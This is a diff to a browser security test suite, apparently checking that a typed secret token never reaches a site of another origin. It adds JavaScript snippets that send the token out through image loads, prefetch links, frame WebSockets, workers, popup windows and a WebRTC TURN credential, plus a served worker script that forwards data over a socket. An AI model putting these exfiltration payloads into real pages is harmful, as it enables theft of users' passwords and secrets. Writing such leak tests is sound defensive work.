@@ -17,7 +17,7 @@ from browser_world import (
     website,
 )
 from other_site import TOKEN, Other, other, type_over, type_token
-from starlette.responses import RedirectResponse
+from starlette.responses import HTMLResponse, RedirectResponse, Response
 from starlette.types import ASGIApp, Receive, Scope, Send
 from tampered_page import Tampered, before_end, on_the_form
 
@@ -110,18 +110,29 @@ def test_a_password_stands_in_no_address(
 
 
 class Hopping:
-    """An application with a picture of its own that is found at another origin."""
+    """
+    An application with a picture of its own that is found at another origin.
+
+    A frame and a worker of its own stand beside it.
+    """
 
     def __init__(self, app: ASGIApp, away: str) -> None:
         self.app, self.away = app, away
 
     async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
         """Send who asks for the picture on."""
-        if scope["type"] == "http" and scope["path"] == "/hop.png":
-            answer = RedirectResponse(f"{self.away}/hop.png")
-            await answer(scope, receive, send)
-            return
-        await self.app(scope, receive, send)
+        query = scope.get("query_string", b"").decode()
+        sockets = self.away.replace("http", "ws")
+        answer = {
+            "/hop.png": RedirectResponse(f"{self.away}/hop.png?{query}"),
+            "/still": HTMLResponse("<p>Still</p>"),
+            "/worker.js": Response(
+                f"onmessage = one => new WebSocket('{sockets}/?' + one.data);"
+                "onconnect = one => { one.ports[0].onmessage = onmessage }",
+                media_type="text/javascript",
+            ),
+        }.get(scope.get("path", ""), self.app)
+        await answer(scope, receive, send)
 
 
 @asynccontextmanager
@@ -157,6 +168,29 @@ ASKS = {
     "picture that is sent on": (
         "history.replaceState(null, '', '?' + token); new Image().src = '/hop.png'"
     ),
+    "picture that is sent on with it": "new Image().src = '/hop.png?' + token",
+    "fetched ahead": (
+        "document.head.append(Object.assign(document.createElement('link'),"
+        " {rel: 'prefetch', href: '/hop.png?' + token}))"
+    ),
+    "socket of a frame": (
+        "new frames[0].WebSocket(away.replace('http', 'ws') + '/?' + token)"
+    ),
+    "socket of a new frame": (
+        "const one = document.createElement('iframe'); one.src = '/still';"
+        " one.onload = () => { new one.contentWindow.WebSocket("
+        "away.replace('http', 'ws') + '/?' + token) }; document.body.append(one)"
+    ),
+    "worker": "new Worker('/worker.js').postMessage(token)",
+    "worker of many pages": "shared?.port.postMessage(token)",
+    "window": "open('/hop.png?' + token, '_blank')",
+    "window without opener": "open('/hop.png?' + token, '_blank', 'noopener')",
+    "call": (
+        "const one = new RTCPeerConnection({iceServers: [{username: token,"
+        " urls: away.replace('http://', 'turn:') + '?transport=tcp',"
+        " credential: token}]}); one.createDataChannel('x');"
+        " one.createOffer().then(told => one.setLocalDescription(told))"
+    ),
 }
 
 
@@ -170,7 +204,9 @@ def test_no_other_site_learns_what_is_typed(world: World, asks: str) -> None:
 
     def around(app: ASGIApp, away: str) -> ASGIApp:
         look = (
-            "<script>setInterval(() => {"
+            "<iframe src=/still></iframe><script>let shared = null;"
+            " try { shared = new SharedWorker('/worker.js') } catch {}"
+            " setInterval(() => {"
             f" const away = '{away}';"
             " const token = [...document.querySelectorAll('input')]"
             f".some(one => one.value === '{TOKEN}') ? '{TOKEN}' : '';"
@@ -189,7 +225,7 @@ def test_no_other_site_learns_what_is_typed(world: World, asks: str) -> None:
     async def act() -> None:
         async with typing(world, around) as (reader, writer, elsewhere):
             await type_token(reader, writer)
-            assert not any(TOKEN.encode() in one for one in elsewhere.heard)
+            assert elsewhere.heard == []
 
     world.runner.run(act())
 
